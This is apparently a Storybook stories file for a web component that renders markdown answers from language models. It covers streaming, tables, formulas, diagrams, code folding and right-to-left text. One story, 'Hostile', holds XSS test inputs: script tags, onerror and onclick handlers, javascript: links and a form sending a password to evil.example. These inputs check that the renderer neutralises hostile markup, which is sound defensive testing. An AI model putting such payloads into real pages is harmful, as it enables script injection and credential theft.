import '@llmselect/elements/define/llm-markdown';
import type { LlmMarkdown } from '@llmselect/elements';
import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { html, type TemplateResult } from 'lit';
import { find, press } from './person.ts';
import { until } from './until.ts';

const meta: Meta<LlmMarkdown> = {
  title: 'llm-markdown',
  component: 'llm-markdown',
  render: ({ text, streaming, allowRemoteImages, math, diagrams, renderers }): TemplateResult => html`
    <llm-markdown
      style="max-inline-size: 520px"
      .text=${text}
      ?streaming=${streaming}
      ?allow-remote-images=${allowRemoteImages}
      ?math=${math}
      ?diagrams=${diagrams}
      .renderers=${renderers ?? {}}
    ></llm-markdown>
  `,
};
export default meta;

type Story = StoryObj<LlmMarkdown>;

const RICH = `# Race conditions

A **race condition** appears when the result depends on which of two *asynchronous* steps finishes first.
See [the specification](https://tc39.es/ecma262/) or https://developer.mozilla.org.

## Example

\`\`\`js
let balance = 100;
async function pay(sum) {
  const before = balance;
  await bank.charge(sum);
  balance = before - sum; // two payments at once both read 100: one of them is lost
}
\`\`\`

## Fix

- Read after the \`await\`, or
- queue the payments:
  1. take the lock
  2. pay
  3. give it back

- [x] understood
- [ ] fixed

> The read and the write are not one step.

| Way | Cost | Keeps order |
|:----|-----:|:-----------:|
| Lock | 0.2 ms | yes |
| Queue | 0.1 ms | yes |
| Hope | 0 ms | **no** |

![The order of the steps](https://images.example/steps.png)

<details><summary>More</summary><p>Written in <mark>HTML</mark>, H<sub>2</sub>O and all.</p></details>

---

Press <kbd>Ctrl</kbd> + <kbd>Enter</kbd>.
`;

/** Everything a finished answer may hold. */
export const RichDocument: Story = { args: { text: RICH } };

/** An answer that is being written, in the middle of a code block. */
export const Streaming: Story = {
  args: { text: RICH.slice(0, RICH.indexOf('balance = before')), streaming: true },
};

/** Nothing has come yet. */
export const StreamingNothingYet: Story = { args: { text: '', streaming: true } };

/** Marks whose other half has not come: closed for show. */
export const HalfWritten: Story = {
  args: { text: 'The **bold *and* `code` of [a link](https://exam', streaming: true },
};

/** A table whose second line has not come. */
export const HalfWrittenTable: Story = {
  args: { text: 'Compare:\n\n| Way | Cost | Keeps or', streaming: true },
};

/** What an answer may try: nothing of it runs, loads or styles. */
export const Hostile: Story = {
  args: {
    text: [
      '<script>alert(1)</script>',
      '<div onclick="alert(1)" style="position:fixed;inset:0">A plain block</div>',
      '<img src=x onerror=alert(1)> in a line',
      '[A link](javascript:alert(1)) and <javascript:alert(1)>',
      '![A tracking picture](https://tracker.example/pixel.png)',
      '<form action="https://evil.example"><input name="password"></form>',
    ].join('\n\n'),
  },
};

/** Code in several languages, coloured once each block is closed. */
export const Code: Story = {
  args: {
    text: [
      '```ts\ninterface Point { readonly x: number }\n// where it is\nexport const origin: Point = { x: 0 };\n```',
      '```python\n@cache\ndef f(n: int = 1) -> str:\n    return f"{n}"\n```',
      '```html\n<p class="a">b</p>\n<script>let c = 1;</script>\n```',
      '```diff\n- before\n+ after\n```',
    ].join('\n\n'),
  },
};

/** Code of more than 40 lines is folded. */
export const LongCode: Story = {
  args: { text: `\`\`\`js\n${Array.from({ length: 90 }, (_, line) => `step(${line});`).join('\n')}\n\`\`\`` },
};

/** Right to left, block by block. */
export const RightToLeft: Story = {
  args: {
    text: 'حالة السباق تعني أن **النتيجة** تعتمد على ترتيب خطوتين.\n\n- اقرأ بعد `await`\n- أو ضع المدفوعات في طابور\n\n```js\nawait pay(10);\n```\n\n> اقتباس قصير\n\nAnd back to English.',
  },
};

/** Wide content scrolls in its own container, and is reached by keyboard. */
export const Wide: Story = {
  args: {
    text: `\`\`\`ts\nconst line = '${'long '.repeat(40)}';\n\`\`\`\n\n| ${'Column | '.repeat(14)}\n| ${'--- | '.repeat(14)}\n| ${'value | '.repeat(14)}`,
  },
};

/** TeX as MathML, where the host wants it; prices stay prices. */
export const Formulas: Story = {
  args: {
    math: true,
    text: [
      'The roots of $ax^2 + bx + c = 0$ are',
      '$$\nx_{1,2} = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}\n$$',
      'It costs $5 or $6. Also \\(\\sum_{i=1}^{n} i\\), and what is not TeX: $\\nothing{}$.',
    ].join('\n\n'),
  },
};

/** Half a formula is text until the other half is there. */
export const HalfWrittenFormula: Story = {
  args: { math: true, streaming: true, text: 'So\n\n$$\nx = \\frac{1}{' },
};

/** Mermaid, where the host wants it. What is no diagram stays code. */
export const Diagrams: Story = {
  args: {
    diagrams: true,
    text: '```mermaid\ngraph TD\n  A[Read the balance] --> B{Paid?}\n  B -->|yes| C[Ship]\n```\n\n```mermaid\nnot a diagram\n```',
  },
};

/** A language that the host renders itself; a renderer that fails leaves the code. */
export const OwnRenderers: Story = {
  args: {
    renderers: {
      bars(code) {
        const list = document.createElement('p');
        list.textContent = code
          .split(',')
          .map((value) => '▇'.repeat(Number(value)))
          .join(' ');
        return list;
      },
      broken: () => Promise.reject(new Error('no')),
    },
    text: '```bars\n1,4,2,8\n```\n\n```broken\nstill here\n```',
  },
};

/** Footnotes and the five kinds of alerts. */
export const NotesAndAlerts: Story = {
  args: {
    text: `${['NOTE', 'TIP', 'IMPORTANT', 'WARNING', 'CAUTION'].map((kind) => `> [!${kind}]\n> Read the balance *after* the payment.`).join('\n\n')}\n\nSaid so[^1].\n\n[^1]: By the specification.`,
  },
};

export const Empty: Story = { args: { text: '' } };

export const Dark: Story = { args: { text: RICH }, globals: { scheme: 'dark' } };

export const Phone: Story = { args: { text: RICH }, globals: { viewport: { value: 'mobile1' } } };

/** Headings are as deep as they stand in their answer, below the name of its model. */
export const Headings: Story = {
  args: { text: '### First\n\n#### Below it\n\n###### Below that\n\n## Beside the first\n' },
};

/** All of a long block is unfolded, and its lines wrapped. */
export const Unfolded: Story = {
  ...LongCode,
  play: async ({ canvasElement }) => {
    await press(canvasElement, ['llm-markdown', '.fold-button']);
    await press(canvasElement, ['llm-markdown', '.wrap-button']);
    const fold = await find(canvasElement, ['llm-markdown', '.fold-button']);
    await until('it says that it is unfolded', () => fold.getAttribute('aria-expanded') === 'true');
  },
};
